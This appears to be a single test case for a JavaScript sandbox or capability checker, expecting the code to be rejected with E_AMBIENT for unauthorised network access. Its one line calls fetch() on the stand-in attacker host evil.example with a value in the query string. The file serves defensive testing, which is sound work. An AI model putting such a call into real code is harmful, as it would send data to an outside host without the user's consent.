// case: X11 the network without a claim
// context: N
// expect: reject E_AMBIENT
export const result = fetch('https://evil.example/?' + Math.max(1, 2));
